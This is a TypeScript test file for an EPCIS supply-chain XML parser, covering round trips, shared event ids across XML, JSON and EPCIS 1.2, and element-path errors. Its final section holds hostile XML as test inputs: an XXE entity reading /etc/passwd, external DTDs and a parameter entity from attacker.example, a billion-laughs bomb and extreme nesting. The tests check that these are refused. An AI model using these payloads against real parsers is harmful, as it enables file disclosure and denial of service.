// The EPCIS XML binding on its own: lossless round trips over generated events, one canonical id across
// XML, JSON and EPCIS 1.2, errors that name the element path, and hostile XML refused.
import { readFileSync } from "node:fs";
import { join } from "node:path";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { LedgerEvent } from "../../src/domain/events.ts";
import { eventHash } from "../../src/standards/epcis/event-hash.ts";
import { parseEpcisJson } from "../../src/standards/epcis/parse-json.ts";
import { parseEpcisXml } from "../../src/standards/epcis/parse-xml.ts";
import { serializeDocument } from "../../src/standards/epcis/serialize-json.ts";
import { serializeDocumentXml } from "../../src/standards/epcis/serialize-xml.ts";
import { ledgerEventArb } from "../helpers/event-arbitraries.ts";

const FIXTURES = join(import.meta.dirname, "../fixtures/xml");
const fixture = (name: string) => readFileSync(join(FIXTURES, name), "utf8");
const RECORDED = "2026-01-01T00:00:00.000Z";

function viewsOf(events: LedgerEvent[]) {
  return events.map((event) => ({ event, eventHash: eventHash(event), recordTime: RECORDED }));
}

function readXml(text: string): LedgerEvent[] {
  const parsed = parseEpcisXml(text);
  if (!parsed.ok) throw new Error(`does not parse: ${JSON.stringify(parsed.problems)}\n${text}`);
  return parsed.document.events;
}

function problemsOf(text: string) {
  const parsed = parseEpcisXml(text);
  if (parsed.ok) throw new Error("expected the document to be refused");
  return parsed.problems;
}

const documentOf = (events: string) =>
  `<?xml version="1.0" encoding="UTF-8"?>
<epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:2" xmlns:ex="https://ns.example.com/epcis/" schemaVersion="2.0" creationDate="2026-01-01T00:00:00Z">
  <EPCISBody><EventList>${events}</EventList></EPCISBody>
</epcis:EPCISDocument>`;

const objectEvent = (inner = "", action = "OBSERVE") => `<ObjectEvent>
  <eventTime>2026-03-04T11:00:30.000+07:00</eventTime>
  <eventTimeZoneOffset>+07:00</eventTimeZoneOffset>
  <epcList><epc>urn:epc:id:sgtin:0614141.107346.2018</epc></epcList>
  <action>${action}</action>
  ${inner}
</ObjectEvent>`;

describe("XML round trips over generated events", () => {
  it("domain to XML to domain keeps the canonical id, and a second round trip changes nothing", () => {
    fc.assert(
      fc.property(fc.array(ledgerEventArb, { minLength: 1, maxLength: 3 }), (events) => {
        const first = readXml(serializeDocumentXml(viewsOf(events), RECORDED));
        expect(first.map(eventHash)).toEqual(events.map(eventHash));
        const secondXml = serializeDocumentXml(viewsOf(first), RECORDED);
        const second = readXml(secondXml);
        expect(second).toEqual(first);
        expect(serializeDocumentXml(viewsOf(second), RECORDED)).toBe(secondXml);
      }),
      { numRuns: 300 },
    );
  });

  it("XML to JSON to XML keeps every canonical id", () => {
    fc.assert(
      fc.property(fc.array(ledgerEventArb, { minLength: 1, maxLength: 3 }), (events) => {
        const fromXml = readXml(serializeDocumentXml(viewsOf(events), RECORDED));
        const json = parseEpcisJson(
          JSON.parse(JSON.stringify(serializeDocument(viewsOf(fromXml), RECORDED))),
        );
        if (!json.ok) throw new Error(JSON.stringify(json.problems));
        const back = readXml(serializeDocumentXml(viewsOf(json.document.events), RECORDED));
        expect(json.document.events.map(eventHash)).toEqual(fromXml.map(eventHash));
        expect(back.map(eventHash)).toEqual(fromXml.map(eventHash));
      }),
      { numRuns: 200 },
    );
  });
});

describe("one event, one canonical id, whatever the binding or version", () => {
  it("an EPCIS 1.2 document is upgraded on reading and keeps the id of its 2.0 form", () => {
    const v2 = readXml(fixture("sensor-less-shipment-2.0.xml"));
    const v12 = readXml(fixture("sensor-less-shipment-1.2.xml"));
    expect(v12.map((e) => e.kind)).toEqual(["ObjectEvent", "TransformationEvent", "ObjectEvent"]);
    expect(v12.map(eventHash)).toEqual(v2.map(eventHash));
    // The 1.2 wrappers are gone: quantities, sources and ilmd sit where 2.0 has them.
    const [shipment, transformation, count] = v12;
    expect(shipment?.kind === "ObjectEvent" && shipment.quantities).toEqual([
      { epcClass: "urn:epc:class:lgtin:4012345.012345.998877", quantity: 200, uom: "KGM" },
    ]);
    expect(shipment?.eventId).toBe("urn:uuid:374d95fc-9457-4a51-bd6a-0bba133845a8");
    expect(transformation?.kind === "TransformationEvent" && transformation.ilmd).toEqual({
      "{https://ns.example.com/epcis/}grade": "A",
    });
    // A 1.x QuantityEvent is the 2.0 ObjectEvent that counts a class.
    expect(count?.kind === "ObjectEvent" && count.action).toBe("OBSERVE");
    expect(count?.kind === "ObjectEvent" && count.quantities).toEqual([
      { epcClass: "urn:epc:class:lgtin:4012345.012345.998877", quantity: 12 },
    ]);
  });

  it("the same event as XML and as JSON-LD has one id", () => {
    const [xml] = readXml(
      documentOf(
        objectEvent(`<bizStep>urn:epcglobal:cbv:bizstep:shipping</bizStep>
        <quantityList><quantityElement><epcClass>urn:epc:class:lgtin:4012345.012345.998877</epcClass><quantity>20.50</quantity><uom>TNE</uom></quantityElement></quantityList>
        <ex:grade><ex:value>A</ex:value><ex:value>B</ex:value></ex:grade>`),
      ),
    );
    const json = parseEpcisJson({
      "@context": [
        "https://ref.gs1.org/standards/epcis/2.0.0/epcis-context.jsonld",
        { ex: "https://ns.example.com/epcis/" },
      ],
      type: "ObjectEvent",
      eventTime: "2026-03-04T04:00:30Z",
      eventTimeZoneOffset: "+07:00",
      epcList: ["urn:epc:id:sgtin:0614141.107346.2018"],
      action: "OBSERVE",
      bizStep: "shipping",
      quantityList: [{ epcClass: "urn:epc:class:lgtin:4012345.012345.998877", quantity: 20.5, uom: "TNE" }],
      "ex:grade": { "ex:value": ["B", "A"] },
    });
    if (!json.ok || !xml) throw new Error("does not parse");
    expect(eventHash(xml)).toBe(eventHash(json.document.events[0] as LedgerEvent));
  });
});

describe("problems name the XML element", () => {
  it("a wrong action names its element", () => {
    const [problem] = problemsOf(documentOf(objectEvent("", "TAKE")));
    expect(problem?.path).toBe("/epcis:EPCISDocument/EPCISBody/EventList/ObjectEvent/action");
    expect(problem?.message).toMatch(/ADD|OBSERVE|DELETE/);
  });

  it("a quantity that is not a number names the quantity of the second element", () => {
    const problems = problemsOf(
      documentOf(
        objectEvent(`<quantityList>
          <quantityElement><epcClass>urn:epc:class:lgtin:4012345.012345.1</epcClass><quantity>5</quantity><uom>KGM</uom></quantityElement>
          <quantityElement><epcClass>urn:epc:class:lgtin:4012345.012345.2</epcClass><quantity>five</quantity><uom>KGM</uom></quantityElement>
        </quantityList>`),
      ),
    );
    expect(problems).toEqual([
      {
        event: 0,
        path: "/epcis:EPCISDocument/EPCISBody/EventList/ObjectEvent/quantityList/quantityElement[2]/quantity",
        message: 'quantity must be a decimal number, got "five"',
      },
    ]);
  });

  it("a negative mass in the second event names that event", () => {
    const problems = problemsOf(
      documentOf(
        objectEvent() +
          objectEvent(
            `<quantityList><quantityElement><epcClass>urn:epc:class:lgtin:4012345.012345.1</epcClass><quantity>-3</quantity><uom>KGM</uom></quantityElement></quantityList>`,
          ),
      ),
    );
    expect(problems[0]?.event).toBe(1);
    expect(problems[0]?.path).toBe(
      "/epcis:EPCISDocument/EPCISBody/EventList/ObjectEvent[2]/quantityList/quantityElement/quantity",
    );
    expect(problems[0]?.message).toMatch(/greater than zero/);
  });

  it("an element EPCIS does not have is named; an unqualified element inside an extension is kept by its bare name", () => {
    expect(problemsOf(documentOf(objectEvent("<colour>red</colour>")))[0]).toMatchObject({
      path: "/epcis:EPCISDocument/EPCISBody/EventList/ObjectEvent/colour",
      message: "<colour> is not part of ObjectEvent in EPCIS 2.0",
    });
    // The reference hash vectors carry such elements (an <epcClass> inside a vendor element) and hash them
    // by their bare name, so refusing them would refuse conformant documents.
    const [event] = readXml(documentOf(objectEvent("<ex:grade><inner>1</inner></ex:grade>")));
    expect(event?.extensions).toEqual({ "{https://ns.example.com/epcis/}grade": { inner: "1" } });
    const again = readXml(serializeDocumentXml(viewsOf(event ? [event] : []), RECORDED));
    expect(again.map(eventHash)).toEqual([event ? eventHash(event) : ""]);
  });

  it("elements out of the order the EPCIS 2.0 XSD prescribes are refused with the element's path", () => {
    const swapped = `<ObjectEvent>
  <eventTime>2026-03-04T11:00:30.000+07:00</eventTime>
  <eventTimeZoneOffset>+07:00</eventTimeZoneOffset>
  <action>OBSERVE</action>
  <epcList><epc>urn:epc:id:sgtin:0614141.107346.2018</epc></epcList>
</ObjectEvent>`;
    expect(problemsOf(documentOf(swapped))[0]).toMatchObject({
      path: "/epcis:EPCISDocument/EPCISBody/EventList/ObjectEvent/epcList",
      message: expect.stringMatching(/^<epcList> must come before <action> in <ObjectEvent>/),
    });
    const extensionFirst = objectEvent("<ex:grade>A</ex:grade><bizStep>inspecting</bizStep>");
    expect(problemsOf(documentOf(extensionFirst))[0]).toMatchObject({
      path: "/epcis:EPCISDocument/EPCISBody/EventList/ObjectEvent/bizStep",
      message: expect.stringMatching(/comes after the extension element <ex:grade>/),
    });
    const quantity = objectEvent(
      "<quantityList><quantityElement><quantity>3</quantity><epcClass>urn:epc:class:lgtin:4012345.012345.1</epcClass></quantityElement></quantityList>",
    );
    expect(problemsOf(documentOf(quantity))[0]?.path).toBe(
      "/epcis:EPCISDocument/EPCISBody/EventList/ObjectEvent/quantityList/quantityElement/epcClass",
    );
    const dispositions = objectEvent(
      "<persistentDisposition><set>completeness_verified</set><unset>completeness_inferred</unset></persistentDisposition>",
    );
    expect(problemsOf(documentOf(dispositions))[0]?.message).toMatch(/<unset> must come before <set>/);
  });

  it("the same elements in the XSD's order are accepted", () => {
    const ordered = objectEvent(
      "<bizStep>inspecting</bizStep><quantityList><quantityElement><epcClass>urn:epc:class:lgtin:4012345.012345.1</epcClass><quantity>3</quantity></quantityElement></quantityList><persistentDisposition><unset>completeness_inferred</unset><set>completeness_verified</set></persistentDisposition><ex:grade>A</ex:grade>",
    );
    expect(readXml(documentOf(ordered))).toHaveLength(1);
  });

  it("a document that is no EPCIS document says what its root is", () => {
    expect(problemsOf('<invoice xmlns="urn:example:invoice"/>')[0]?.message).toMatch(
      /root element is <invoice> in namespace urn:example:invoice/,
    );
  });
});

/** A document with a DOCTYPE right after its XML declaration, where a DOCTYPE must stand. */
const withDoctype = (doctype: string, events: string) => documentOf(events).replace("?>", `?>\n${doctype}`);

describe("hostile XML is refused before anything is read", () => {
  const cases: Record<string, string> = {
    "an external entity reading a local file": withDoctype(
      '<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
      objectEvent("<ex:note>&xxe;</ex:note>"),
    ),
    "an external DTD": withDoctype(
      '<!DOCTYPE epcis:EPCISDocument SYSTEM "http://attacker.example/evil.dtd">',
      objectEvent(),
    ),
    "a billion laughs entity-expansion bomb": withDoctype(
      `<!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? "" : i};`.repeat(10)}">`).join("")}]>`,
      objectEvent("<ex:note>&lol9;</ex:note>"),
    ),
    "a parameter entity": withDoctype(
      '<!DOCTYPE d [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>',
      objectEvent(),
    ),
    "an entity that is never declared": documentOf(objectEvent("<ex:note>&undeclared;</ex:note>")),
    "elements nested 100,000 deep": documentOf(
      objectEvent(`${"<ex:n>".repeat(100_000)}x${"</ex:n>".repeat(100_000)}`),
    ),
    "a document cut off in the middle": documentOf(objectEvent()).slice(0, 300),
  };

  it.each(Object.entries(cases))("%s", (_name, text) => {
    const problems = problemsOf(text);
    expect(problems).toHaveLength(1);
    expect(problems[0]?.message).toMatch(/DOCTYPE|not well-formed|deeper than the limit/);
  });

  it("a document over the size limit is refused by its size", () => {
    const parsed = parseEpcisXml(documentOf(objectEvent()), {
      limits: { maxBytes: 200, maxDepth: 48, maxElements: 1000 },
    });
    expect(parsed.ok).toBe(false);
    expect(!parsed.ok && parsed.problems[0]?.message).toMatch(/larger than the limit of 200 bytes/);
  });

  it("a bare DOCTYPE name, as some of the standard's examples carry, is harmless and accepted", () => {
    expect(readXml(withDoctype("<!DOCTYPE project>", objectEvent()))).toHaveLength(1);
  });
});
